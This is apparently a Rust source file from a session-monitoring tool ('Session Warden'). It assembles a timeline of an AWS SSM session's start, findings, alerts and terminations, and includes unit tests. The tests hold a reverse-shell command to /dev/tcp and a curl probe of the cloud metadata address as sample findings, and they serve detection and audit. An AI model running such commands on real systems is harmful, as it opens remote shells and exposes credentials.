//! A session's story in time order, from its record, findings and alert marks: what `warden
//! sessions show` prints under TIMELINE.

use crate::finding::FindingRecord;
use crate::ports::{AlertMark, AlertState};
use crate::session::{SessionRecord, SessionState};
use jiff::Timestamp;
use serde::Serialize;

/// What happened. The order is the order of things at the same instant: a session starts before
/// anything is found in it, a finding before its alert, a termination before the end it causes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum EntryKind {
    Start,
    Denied,
    Resume,
    Transcript,
    Finding,
    Alert,
    Termination,
    End,
}

impl EntryKind {
    pub fn as_str(self) -> &'static str {
        match self {
            EntryKind::Start => "start",
            EntryKind::Denied => "denied",
            EntryKind::Resume => "resume",
            EntryKind::Transcript => "transcript",
            EntryKind::Finding => "finding",
            EntryKind::Alert => "alert",
            EntryKind::Termination => "termination",
            EntryKind::End => "end",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct TimelineEntry {
    /// None when the store does not know when (an alert not marked sent).
    pub at: Option<Timestamp>,
    pub kind: EntryKind,
    pub text: String,
    /// A finding's command as typed (secrets masked).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
}

impl TimelineEntry {
    fn new(at: Option<Timestamp>, kind: EntryKind, text: String) -> Self {
        TimelineEntry {
            at,
            kind,
            text,
            command: None,
        }
    }
}

/// Start (or refusal), resume, first transcript output, findings with their commands, alerts
/// sent, terminations (Session Warden's and people's requests) and the end, oldest first;
/// entries without a time come last.
pub fn timeline(
    s: &SessionRecord,
    findings: &[FindingRecord],
    alerts: &[AlertMark],
) -> Vec<TimelineEntry> {
    let mut entries = Vec::new();
    if let Some(denial) = &s.denial {
        let message = denial
            .message
            .as_deref()
            .map(|m| format!(": {m}"))
            .unwrap_or_default();
        entries.push(TimelineEntry::new(
            s.started_at,
            EntryKind::Denied,
            format!("start refused for {}: {}{message}", who(s), denial.code),
        ));
    } else if s.started_at.is_some() {
        entries.push(TimelineEntry::new(
            s.started_at,
            EntryKind::Start,
            start_text(s),
        ));
    }
    if s.resume_count > 0 {
        let text = if s.resume_count == 1 {
            "resumed".to_string()
        } else {
            format!("resumed {} times (the last shown)", s.resume_count)
        };
        entries.push(TimelineEntry::new(
            s.last_resumed_at,
            EntryKind::Resume,
            text,
        ));
    }
    if let Some(first) = s.transcript.as_ref().and_then(|t| t.first_event_at) {
        let group = s
            .transcript
            .as_ref()
            .and_then(|t| t.log_group.as_deref())
            .map(|g| format!(" in {g}"))
            .unwrap_or_default();
        entries.push(TimelineEntry::new(
            Some(first),
            EntryKind::Transcript,
            format!("first transcript output{group}"),
        ));
    }
    for f in findings {
        entries.push(TimelineEntry {
            at: Some(f.log_event_time.unwrap_or(f.found_at)),
            kind: EntryKind::Finding,
            text: format!(
                "{} ({}, {}) line {}: {}",
                f.rule_id,
                f.severity,
                f.action.as_str(),
                f.line,
                f.command
            ),
            command: Some(f.command.clone()),
        });
    }
    for a in alerts {
        let what = if a.kind.starts_with("findings:") {
            "findings of a transcript batch".to_string()
        } else {
            a.kind.clone()
        };
        let (at, text) = match &a.state {
            AlertState::Sent { at } => (Some(*at), format!("{what} sent")),
            AlertState::Claimed { until } => (
                None,
                format!("{what} NOT marked sent (claimed until {until})"),
            ),
            AlertState::Released => (None, format!("{what} NOT sent: its publish failed")),
        };
        entries.push(TimelineEntry::new(at, EntryKind::Alert, text));
    }
    for (reason, t) in &s.terminations {
        let detail = t
            .detail
            .as_deref()
            .map(|d| format!(" ({d})"))
            .unwrap_or_default();
        entries.push(TimelineEntry::new(
            Some(t.at),
            EntryKind::Termination,
            format!(
                "Session Warden, for {reason}: {}{detail}",
                t.outcome.as_str()
            ),
        ));
    }
    if let Some(by) = &s.terminated_by {
        let reason = s.termination_reason.as_deref().unwrap_or("no reason given");
        entries.push(TimelineEntry::new(
            s.terminated_at,
            EntryKind::Termination,
            format!("requested by {by}: {reason}"),
        ));
    }
    if s.state.is_over() && s.state != SessionState::Denied {
        let mut text = s.state.as_str().to_string();
        if let Some(by) = &s.ended_by {
            text.push_str(&format!(" by {by}"));
        }
        if let Some(why) = &s.end_reason {
            text.push_str(&format!(" ({why})"));
        }
        entries.push(TimelineEntry::new(s.ended_at, EntryKind::End, text));
    }
    // Timed entries first, in time order; at the same instant, in the order of their kinds.
    entries.sort_by(|a, b| {
        (a.at.is_none(), a.at, a.kind, &a.text).cmp(&(b.at.is_none(), b.at, b.kind, &b.text))
    });
    entries
}

fn who(s: &SessionRecord) -> String {
    s.principal
        .as_ref()
        .map(|p| p.display_name.clone())
        .or_else(|| {
            s.transcript
                .as_ref()
                .and_then(|t| t.owner_arn.clone())
                .map(|arn| format!("{arn} (from the transcript)"))
        })
        .unwrap_or_else(|| "an unknown principal".to_string())
}

fn start_text(s: &SessionRecord) -> String {
    let mut text = format!(
        "started by {} on {}",
        who(s),
        s.target.as_deref().unwrap_or("an unknown target")
    );
    if let Some(document) = &s.document {
        text.push_str(&format!(" ({document})"));
    }
    text.push_str(&format!(", MFA {}", s.mfa.as_str()));
    if let Some(reason) = s.reason.as_deref().filter(|r| !r.trim().is_empty()) {
        text.push_str(&format!(", reason {reason:?}"));
    }
    let flags: Vec<&str> = s.flags.keys().map(|k| k.as_str()).collect();
    if !flags.is_empty() {
        text.push_str(&format!(", flags {}", flags.join(",")));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::identity::Principal;
    use crate::policy::Severity;
    use crate::rules::RuleAction;
    use crate::session::{Denial, TerminationOutcome, TerminationRecord, TranscriptSeen};

    fn at(text: &str) -> Timestamp {
        text.parse().unwrap()
    }

    fn finding(line: usize, command: &str, time: &str) -> FindingRecord {
        FindingRecord {
            session_id: "carol-1".into(),
            log_event_id: format!("e{line}"),
            rule_id: "remote_exec_c2.reverse_shell".into(),
            title: "Reverse shell".into(),
            category: "remote_exec_c2".into(),
            severity: Severity::Critical,
            action: RuleAction::Terminate,
            attack: Vec::new(),
            command: command.into(),
            normalized: command.into(),
            line,
            log_event_time: Some(at(time)),
            found_at: at("2026-11-24T10:30:00Z"),
        }
    }

    fn carol() -> SessionRecord {
        let mut s = SessionRecord {
            principal: Some(Principal::from_arn(
                "arn:aws:sts::111122223333:assumed-role/Admin/carol",
            )),
            target: Some("i-0a1b".into()),
            document: Some("SSM-SessionManagerRunShell".into()),
            started_at: Some(at("2026-11-24T10:00:00Z")),
            resume_count: 2,
            last_resumed_at: Some(at("2026-11-24T10:10:00Z")),
            transcript: Some(TranscriptSeen {
                log_group: Some("/aws/ssm/sessions".into()),
                first_event_at: Some(at("2026-11-24T10:00:05Z")),
                ..TranscriptSeen::default()
            }),
            ..SessionRecord::new("carol-1")
        };
        s.record_termination(
            "rule:remote_exec_c2.reverse_shell",
            TerminationRecord {
                outcome: TerminationOutcome::Terminated,
                at: at("2026-11-24T10:21:00Z"),
                detail: None,
            },
        );
        s
    }

    fn texts(entries: &[TimelineEntry]) -> Vec<String> {
        entries
            .iter()
            .map(|e| {
                let at = e.at.map(|t| t.to_string()).unwrap_or_else(|| "-".into());
                format!("{at} {} {}", e.kind.as_str(), e.text)
            })
            .collect()
    }

    #[test]
    fn a_session_reads_from_start_to_end() {
        let alerts = [
            AlertMark {
                kind: "findings:ab12".into(),
                state: AlertState::Sent {
                    at: at("2026-11-24T10:21:01Z"),
                },
            },
            AlertMark {
                kind: "off_hours".into(),
                state: AlertState::Sent {
                    at: at("2026-11-24T10:00:01Z"),
                },
            },
        ];
        let findings = [
            finding(
                5,
                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "2026-11-24T10:20:00Z",
            ),
            finding(3, "curl http://169.254.169.254/", "2026-11-24T10:15:00Z"),
        ];
        let entries = timeline(&carol(), &findings, &alerts);
        assert_eq!(
            texts(&entries),
            [
                "2026-11-24T10:00:00Z start started by carol on i-0a1b (SSM-SessionManagerRunShell), MFA unknown",
                "2026-11-24T10:00:01Z alert off_hours sent",
                "2026-11-24T10:00:05Z transcript first transcript output in /aws/ssm/sessions",
                "2026-11-24T10:10:00Z resume resumed 2 times (the last shown)",
                "2026-11-24T10:15:00Z finding remote_exec_c2.reverse_shell (critical, terminate) line 3: curl http://169.254.169.254/",
                "2026-11-24T10:20:00Z finding remote_exec_c2.reverse_shell (critical, terminate) line 5: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "2026-11-24T10:21:00Z termination Session Warden, for rule:remote_exec_c2.reverse_shell: terminated",
                "2026-11-24T10:21:00Z end terminated by session-warden (terminated by Session Warden: rule:remote_exec_c2.reverse_shell)",
                "2026-11-24T10:21:01Z alert findings of a transcript batch sent",
            ]
        );
        assert_eq!(
            entries[4].command.as_deref(),
            Some("curl http://169.254.169.254/")
        );
    }

    #[test]
    fn a_requested_termination_says_who_asked_and_why() {
        let mut s = carol();
        s.terminations.clear();
        s.state = SessionState::Active;
        s.ended_at = None;
        s.note_termination_request(
            "arn:aws:iam::111122223333:user/ann",
            "INC-42",
            at("2026-11-24T10:30:00Z"),
        );
        let entries = timeline(&s, &[], &[]);
        let last = texts(&entries[entries.len() - 2..]);
        assert_eq!(
            last,
            [
                "2026-11-24T10:30:00Z termination requested by arn:aws:iam::111122223333:user/ann: INC-42",
                "2026-11-24T10:30:00Z end terminated by arn:aws:iam::111122223333:user/ann (terminated on request: INC-42)",
            ]
        );
    }

    #[test]
    fn unsent_alerts_have_no_time_and_come_last() {
        let alerts = [
            AlertMark {
                kind: "no_mfa".into(),
                state: AlertState::Released,
            },
            AlertMark {
                kind: "tunnel".into(),
                state: AlertState::Claimed {
                    until: at("2026-11-24T10:00:30Z"),
                },
            },
        ];
        let entries = timeline(&carol(), &[], &alerts);
        assert_eq!(
            texts(&entries[entries.len() - 2..]),
            [
                "- alert no_mfa NOT sent: its publish failed",
                "- alert tunnel NOT marked sent (claimed until 2026-11-24T10:00:30Z)",
            ]
        );
    }

    #[test]
    fn a_refused_start_is_the_whole_story() {
        let s = SessionRecord {
            state: SessionState::Denied,
            started_at: Some(at("2026-11-24T10:00:00Z")),
            denial: Some(Denial {
                code: "AccessDenied".into(),
                message: Some("not allowed".into()),
            }),
            ..SessionRecord::new("denied:e1")
        };
        assert_eq!(
            texts(&timeline(&s, &[], &[])),
            [
                "2026-11-24T10:00:00Z denied start refused for an unknown principal: AccessDenied: not allowed"
            ]
        );
    }

    #[test]
    fn a_session_known_only_from_its_transcript_still_has_a_timeline() {
        let s = SessionRecord {
            transcript: Some(TranscriptSeen {
                owner_arn: Some("arn:aws:iam::1:user/m".into()),
                first_event_at: Some(at("2026-11-24T10:00:05Z")),
                ..TranscriptSeen::default()
            }),
            ..SessionRecord::new("m-1")
        };
        assert_eq!(
            texts(&timeline(&s, &[], &[])),
            ["2026-11-24T10:00:05Z transcript first transcript output"]
        );
    }
}
